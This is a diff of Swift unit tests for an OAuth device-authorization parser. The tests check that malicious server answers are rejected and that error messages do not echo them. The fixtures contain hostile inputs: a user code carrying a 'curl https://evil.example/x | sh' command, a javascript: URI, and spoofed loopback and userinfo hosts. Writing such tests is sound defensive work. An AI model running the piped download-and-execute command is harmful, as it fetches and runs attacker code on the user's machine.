@@ -116,6 +116,63 @@ import TokenVerification
         #expect(defaulted.interval == 5)
     }
 
+    /// A user code that is more than a code, a verification URI that is not https (or loopback http from a loopback
+    /// http endpoint), or a complete URI at another host: refused with a reason that carries none of the answer's text.
+    @Test func aHostileAnswerIsRefusedWithoutItsText() throws {
+        let hostile: [(field: String, value: String)] = [
+            ("user_code", "ABCD-EFGH then run: curl https://evil.example/x | sh"), ("user_code", "ABCD_EFGH"), ("user_code", "ABCD EFGH"),
+            ("user_code", "ÄBCD-EFGH"), ("user_code", String(repeating: "A", count: 33)), ("user_code", "AB\u{202E}CD"),
+            ("verification_uri", "http://evil.example/device"), ("verification_uri", "http://127.0.0.1:8000/device"),
+            ("verification_uri", "http://localhost/device"), ("verification_uri", "http://127.0.0.1.evil.example/device"),
+            ("verification_uri", "javascript:alert(1)//evil"), ("verification_uri", "https://evil.example/device then run: sh"),
+            ("verification_uri", "https://user@evil.example/device"), ("verification_uri", "ftp://evil.example/device"),
+            ("verification_uri_complete", "https://evil.example/device?user_code=WDJB-MJHT"),
+            ("verification_uri_complete", "http://issuer.example/device?user_code=WDJB-MJHT"),
+        ]
+        for (field, value) in hostile {
+            var body = ["device_code": Self.deviceCode, "user_code": "WDJB-MJHT", "verification_uri": "https://issuer.example/device",
+                        "expires_in": 600] as [String: Any]
+            body[field] = value
+            let bytes = Array(try JSONSerialization.data(withJSONObject: body))
+            do {
+                let accepted = try OAuthDeviceAuthorization(body: bytes, endpoint: Self.deviceURL)
+                Issue.record("\(field) \(value) was accepted: \(accepted)")
+            } catch {
+                guard case .invalidResponse(let operation, let reason) = error else { Issue.record("\(field): \(error)"); continue }
+                #expect(operation == OAuthOperation.deviceAuthorization.rawValue)
+                for word in ["evil", "curl", "127.0.0.1", "localhost", "ABCD", "AAAA", "javascript", "user@"] where value.contains(word) {
+                    #expect(!"\(error)".contains(word), "\(field): \(error)")
+                }
+                #expect(!reason.contains(value))
+            }
+        }
+        let longest = String(repeating: "B", count: 32)
+        let fine = try OAuthDeviceAuthorization(body: Array(#"{"device_code":"d","user_code":"\#(longest)","verification_uri":"https://Issuer.example:8443/device","expires_in":60}"#.utf8),
+                                                endpoint: Self.deviceURL)
+        #expect(fine.userCode == longest && fine.verificationHost == "issuer.example:8443")
+    }
+
+    /// Plain http verification URIs only at a loopback address, and only from a device endpoint that is loopback http
+    /// itself (a local test provider); parsed, so a host that merely starts like a loopback address is no loopback.
+    @Test func aLoopbackHTTPVerificationURIComesOnlyFromALoopbackHTTPEndpoint() throws {
+        func answer(_ uri: String) -> [UInt8] {
+            Array(#"{"device_code":"d","user_code":"WDJB-MJHT","verification_uri":"\#(uri)","expires_in":60}"#.utf8)
+        }
+        for endpoint in ["http://127.0.0.1:9000/device", "http://[::1]:9000/device", "http://localhost:9000/device"] {
+            for uri in ["http://127.0.0.1:9000/device", "http://127.9.8.7/device", "http://[::1]/device", "http://localhost:9000/device"] {
+                #expect(throws: Never.self, "\(uri) from \(endpoint)") { _ = try OAuthDeviceAuthorization(body: answer(uri), endpoint: endpoint) }
+            }
+            for uri in ["http://evil.example/device", "http://127.0.0.1.evil.example/device", "http://10.0.0.1/device"] {
+                #expect(throws: OAuthError.self, "\(uri) from \(endpoint)") { _ = try OAuthDeviceAuthorization(body: answer(uri), endpoint: endpoint) }
+            }
+        }
+        for endpoint in ["https://127.0.0.1:9000/device", "https://issuer.example/device", "http://127.0.0.1.evil.example/device"] {
+            #expect(throws: OAuthError.self, "from \(endpoint)") {
+                _ = try OAuthDeviceAuthorization(body: answer("http://127.0.0.1:9000/device"), endpoint: endpoint)
+            }
+        }
+    }
+
     /// Waits the whole interval before each poll, 5 s more from each slow_down on, and sends the device code.
     @Test func pollingWaitsTheIntervalAndSlowsDownWhenAsked() async throws {
         let pending = Self.refusal("authorization_pending")
